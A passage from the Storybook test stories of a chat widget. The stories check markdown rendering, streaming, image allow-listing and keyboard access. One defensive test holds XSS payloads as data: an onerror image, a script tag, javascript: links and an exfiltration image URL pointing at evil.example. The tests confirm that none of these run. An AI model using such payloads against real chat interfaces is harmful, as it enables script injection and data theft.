    // No markup is left showing.
    for (const marker of ['##', '**', '```', '](']) {
      await expect(reply).not.toHaveTextContent(marker);
    }
  },
};

const EVERY_ELEMENT = `# Release notes

Plain text with *emphasis*, **strong**, ~~struck~~ and \`inline code\`.
A single line break stays a line break.

### Links

A [titled link](https://example.com/docs "The docs"), a bare https://example.org/start and [mail us](mailto:help@example.com).

- Bullet one
- Bullet two

1. First step
2. Second step

- [x] Shipped
- [ ] Still to do

> Quoted advice,
> over two lines.

| Plan | Price |
| :--- | ---: |
| Free | $0 |
| Pro | $9 |

\`\`\`js
const answer = 42;
\`\`\`

---

The end.`;

export const MarkdownEveryElement: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Show me everything markdown can do'),
        ...assistantSaid('msg_all', EVERY_ELEMENT),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply).toHaveAttribute('data-status', 'complete');
    const inReply = within(reply);
    await expect(inReply.getByRole('heading', { level: 3, name: 'Release notes' })).toBeVisible();
    await expect(inReply.getByRole('heading', { level: 4, name: 'Links' })).toBeVisible();

    const first = reply.querySelector('[data-slot="markdown-group"] > p') as HTMLElement;
    await expect(first.querySelector('em')).toHaveTextContent('emphasis');
    await expect(first.querySelector('strong')).toHaveTextContent('strong');
    await expect(first.querySelector('del')).toHaveTextContent('struck');
    await expect(first.querySelector('code')).toHaveTextContent('inline code');
    // Replies are chat: one line break is a line break, not a space.
    await expect(first.querySelectorAll('br')).toHaveLength(1);

    await expectExternalLink(
      inReply.getByRole('link', { name: 'titled link (opens in a new tab)' }),
      'https://example.com/docs',
    );
    await expect(inReply.getByRole('link', { name: /^titled link/ })).toHaveAttribute(
      'title',
      'The docs',
    );
    await expectExternalLink(
      inReply.getByRole('link', { name: 'https://example.org/start (opens in a new tab)' }),
      'https://example.org/start',
    );
    await expect(inReply.getByRole('link', { name: /^mail us/ })).toHaveAttribute(
      'href',
      'mailto:help@example.com',
    );
    await expectOnlySafeLinks(reply);

    const [bullets, tasks] = [...reply.querySelectorAll('ul')];
    await expect(bullets?.querySelectorAll('li')).toHaveLength(2);
    await expect(bullets).toHaveTextContent('Bullet oneBullet two');
    const numbered = reply.querySelector('ol');
    await expect(numbered?.querySelectorAll('li')).toHaveLength(2);
    await expect(numbered).toHaveTextContent('First stepSecond step');
    // A task's box is drawn for the eye and spoken as words; there is no form control.
    const [shipped, todo] = [...(tasks?.querySelectorAll('li') ?? [])];
    await expect(shipped).toHaveTextContent('Done: Shipped');
    await expect(shipped?.querySelector('[aria-hidden="true"]')?.textContent).toBe('☑');
    await expect(todo).toHaveTextContent('To do: Still to do');
    await expect(todo?.querySelector('[aria-hidden="true"]')?.textContent).toBe('☐');
    await expect(reply.querySelector('input')).toBeNull();

    const quote = reply.querySelector('blockquote');
    await expect(quote?.textContent).toBe('Quoted advice,over two lines.');
    await expect(quote?.querySelectorAll('br')).toHaveLength(1);

    const table = reply.querySelector('[data-slot="table"] > table') as HTMLElement;
    const headers = [...table.querySelectorAll('th')];
    await expect(headers.map((cell) => cell.textContent)).toEqual(['Plan', 'Price']);
    for (const header of headers) await expect(header).toHaveAttribute('scope', 'col');
    await expect(within(table).getByRole('columnheader', { name: 'Price' })).toBeVisible();
    await expect(getComputedStyle(headers[1] as HTMLElement).textAlign).toBe('right');
    const rows = [...table.querySelectorAll('tbody tr')].map((row) =>
      [...row.querySelectorAll('td')].map((cell) => cell.textContent),
    );
    await expect(rows).toEqual([
      ['Free', '$0'],
      ['Pro', '$9'],
    ]);

    const code = reply.querySelector('pre[data-slot="code-block"]');
    await expect(code).toHaveAttribute('data-language', 'js');
    await expect(code?.textContent).toBe('const answer = 42;');
    await expect(reply.querySelectorAll('hr')).toHaveLength(1);
    await expect(
      reply.querySelector('[data-slot="markdown-group"]:last-child > :last-child'),
    ).toHaveTextContent('The end.');
    for (const marker of ['**', '~~', '- [', '| ---', '```', '---']) {
      await expect(reply).not.toHaveTextContent(marker);
    }
  },
};

export const MarkdownMidStream: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'What matters most?'),
        // Cut off inside a bold phrase…
        ...assistantStreaming('msg_bold', 'The ', 'key ', 'point ', 'is ', '**bold ', 'te'),
        userSaid('user:2', 'And how do I install it?'),
        // …and inside a code fence that has not closed yet.
        ...assistantStreaming(
          'msg_fence',
          'Install ',
          'it:\n\n',
          '```tsx\n',
          "import { ChatWidget } from 'chatwire';\n",
          '<ChatWidget ',
          'token',
        ),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const bold = replyIn(canvasElement, 0) as HTMLElement;
    await expect(bold).toHaveAttribute('data-status', 'streaming');
    // The open `**` shows as bold at once, not as asterisks that turn bold later.
    await expect(bold.querySelector('strong')?.textContent).toBe('bold te');
    await expect(bold).toHaveTextContent('The key point is bold te');
    await expect(bold).not.toHaveTextContent('*');

    const fence = replyIn(canvasElement, 1) as HTMLElement;
    await expect(fence).toHaveAttribute('data-status', 'streaming');
    await expect(fence.querySelector('p')).toHaveTextContent('Install it:');
    // The open fence is already a code block, its text arriving inside it.
    const block = fence.querySelector('pre[data-slot="code-block"]');
    await expect(block).toHaveAttribute('data-language', 'tsx');
    await expect(block?.querySelector('code')?.textContent).toBe(
      "import { ChatWidget } from 'chatwire';\n<ChatWidget token",
    );
    await expect(fence).not.toHaveTextContent('```');
    await expect(fence.querySelector('chatwidget')).toBeNull();
  },
};

/** Set by the hostile reply's payloads if any of them ever ran. */
declare global {
  interface Window {
    __chatwireHacked?: unknown;
  }
}

const HOSTILE_REPLY = `Here is the page you asked for:

<img src=x onerror="window.__chatwireHacked=1">

<script>window.__chatwireHacked=1</script>

Try [click](javascript:alert(1)) or [x](&#106;avascript:alert(1)).

![exfil](https://evil.example/?q=secret)`;

export const HostileReply: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Summarise this web page for me'),
        ...assistantSaid('msg_hostile', HOSTILE_REPLY),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply).toHaveAttribute('data-status', 'complete');
    // Raw HTML is shown as the text it is…
    await expect(reply).toHaveTextContent('<img src=x onerror="window.__chatwireHacked=1">');
    await expect(reply).toHaveTextContent('<script>window.__chatwireHacked=1</script>');
    // …and never becomes an element.
    await expect(reply.querySelector('img, script, iframe, object, embed')).toBeNull();
    await expect(document.querySelector('img[src="x"]')).toBeNull();
    // Script URLs, plain or hidden behind a character reference, are not links.
    await expectOnlySafeLinks(reply);
    const blocked = [...reply.querySelectorAll('[data-slot="blocked-link"]')];
    await expect(blocked.map((span) => span.textContent)).toEqual(['click', 'x']);
    await expect(reply.querySelector('[href*="javascript" i]')).toBeNull();
    // The image is not fetched: it is offered as a link the user may choose to follow.
    await expectExternalLink(
      within(reply).getByRole('link', { name: 'exfil (opens in a new tab)' }),
      'https://evil.example/?q=secret',
    );
    await expect(
      performance.getEntriesByType('resource').some(({ name }) => name.includes('evil.example')),
    ).toBe(false);
    await expect(window.__chatwireHacked).toBeUndefined();
  },
};

/**
 * A picture served by the app itself, so the allowed image loads without a network. Not
 * inlined: Vite would turn a small file into a `data:` URL, which chatwire never loads.
 */
const DIAGRAM_URL = new URL(diagramPath, window.location.href).href;

/** Images may load from the app's own origin only; any other host's stays a link. */
const allowOwnImages = (url: URL) => url.origin === window.location.origin;

export const ImagesAllowed: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'How does it fit together?'),
        ...assistantSaid(
          'msg_images',
          `Like this:\n\n![Widget talks to server](${DIAGRAM_URL})\n\nElsewhere: ![Tracking pixel](https://tracker.example/pixel.png)`,
        ),
      ]}
    >
      <ChatPanel allowImage={allowOwnImages} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    const inReply = within(reply);
    // The allowed host's image is an image, with its alternative text, sending no referrer.
    const image = inReply.getByRole('img', { name: 'Widget talks to server' });
    await expect(image).toHaveAttribute('src', DIAGRAM_URL);
    await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
    // Any other host's stays a link, never fetched.
    await expect(reply.querySelectorAll('img')).toHaveLength(1);
    await expectExternalLink(
      inReply.getByRole('link', { name: 'Tracking pixel (opens in a new tab)' }),
      'https://tracker.example/pixel.png',
    );
    await expect(
      performance.getEntriesByType('resource').some(({ name }) => name.includes('tracker.example')),
    ).toBe(false);
  },
};

export const PlainTextReplies: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Where are the docs?'),
        ...assistantSaid(
          'msg_plain',
          'Markup stays as typed: **not bold**, `not code`.\n# Not a heading\nDocs: https://example.com/docs/start.',
        ),
      ]}
    >
      <ChatPanel renderMarkdown={false} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply.querySelector('[data-slot="markdown"]')).toBeNull();
    await expect(reply).toHaveTextContent('Markup stays as typed: **not bold**, `not code`.');
    await expect(reply).toHaveTextContent('# Not a heading');
    await expect(reply.querySelector('strong, em, code, h1, h2, h3, h4, h5, h6')).toBeNull();
    // A web address is still a link; the full stop after it is not part of it.
    await expectExternalLink(
      within(reply).getByRole('link', {
        name: 'https://example.com/docs/start (opens in a new tab)',
      }),
      'https://example.com/docs/start',
    );
    await expect(reply.querySelectorAll('a')).toHaveLength(1);
  },
};

/** The host's own reply renderer: here it just shouts, and says whether the reply is done. */
const renderShouting = (text: string, { streaming }: { streaming: boolean }) => (
  <div data-testid="custom-reply" data-streaming={streaming}>
    {text.toUpperCase()}
  </div>
);

export const CustomReplyRenderer: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Say it loud'),
        ...assistantSaid('msg_loud', '**Shouting** is fine here.'),
        userSaid('user:2', 'Again'),
        ...assistantStreaming('msg_loud_2', 'Still ', 'typ'),
      ]}
    >
      <ChatPanel renderMarkdown={renderShouting} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const [done, streaming] = within(canvasElement).getAllByTestId('custom-reply');
    // The host's renderer gets the reply's raw text; chatwire's markdown stays out of it.
    await expect(done?.textContent).toBe('**SHOUTING** IS FINE HERE.');
    await expect(done).toHaveAttribute('data-streaming', 'false');
    await expect(streaming?.textContent).toBe('STILL TYP');
    await expect(streaming).toHaveAttribute('data-streaming', 'true');
    await expect(canvasElement.querySelector('[data-slot="markdown"], strong')).toBeNull();
    // It renders inside chatwire's bubble, which keeps the reply's state.
    await expect(streaming?.closest('[data-role="assistant"]')).toHaveAttribute(
      'data-status',
      'streaming',
    );
  },
};

export const KeyboardOnly: Story = {
  render: () => (
    <Seeded
      events={[
        ...conversation(),
        frame({ type: 'error', message: 'Try again later.', timestamp: at() }),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const order = [
      canvas.getByRole('button', { name: 'Talk to a human' }),
      canvas.getByRole('button', { name: 'Conversation options' }),
      canvas.getByRole('log'),
      canvas.getByRole('button', { name: 'Dismiss' }),
      canvas.getByRole('textbox', { name: 'Message' }),
    ];
    (order[0] as HTMLElement).focus();
    for (const element of order.slice(1)) {
      await userEvent.tab();
      await expect(element).toHaveFocus();
      // Focus is visible: an outline is drawn on whatever has it.
      await expect(getComputedStyle(element).outlineStyle).not.toBe('none');
    }
    // With the transcript focused by keyboard, timestamps show for every message.
    canvas.getByRole('log').focus();
    const stamp = canvasElement.querySelector('[data-slot="timestamp"]') as HTMLElement;
    await waitFor(() => expect(getComputedStyle(stamp).opacity).toBe('1'));
    // Typing and Enter send without a mouse.
    await userEvent.click(canvas.getByRole('textbox', { name: 'Message' }));
    await userEvent.keyboard('By keyboard{Enter}');
    await expect(canvas.getByText('By keyboard')).toBeVisible();
  },
};

/** The header menu open, focus on its first item, as Enter or ArrowDown on the button opens it. */
export const ConversationMenuOpen: Story = {
  render: () => <ConversationPanel />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const button = canvas.getByRole('button', { name: 'Conversation options' });
    button.focus();
    await userEvent.keyboard('{ArrowDown}');
    const item = canvas.getByRole('menuitem', { name: 'Clear conversation' });
    await expect(item).toHaveFocus();
    await expect(button).toHaveAttribute('aria-expanded', 'true');
    await expect(canvas.getByRole('menu')).toHaveAccessibleName('Conversation options');
  },
};

/** "Clear conversation" chosen: the transcript empties and focus goes to the composer. */
export const ConversationCleared: Story = {
  render: () => <ConversationPanel />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await userEvent.click(canvas.getByRole('button', { name: 'Conversation options' }));
    await userEvent.click(canvas.getByRole('menuitem', { name: 'Clear conversation' }));
    await expect(canvasElement.querySelectorAll('[role="log"] [role="listitem"]')).toHaveLength(0);
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toHaveFocus();
  },
};

export const ComposerGrowsWithText: Story = {
  render: () => (
    <Seeded events={connected()}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const input = within(canvasElement).getByRole('textbox', { name: 'Message' });
    const oneLine = input.getBoundingClientRect().height;
    await userEvent.type(input, 'one{Shift>}{Enter}{/Shift}two{Shift>}{Enter}{/Shift}three');
    await waitFor(() =>
      expect(input.getBoundingClientRect().height).toBeGreaterThan(oneLine * 1.8),
    );
    await userEvent.keyboard('{Enter}');
    await waitFor(() => expect(input.getBoundingClientRect().height).toBe(oneLine));
  },
};
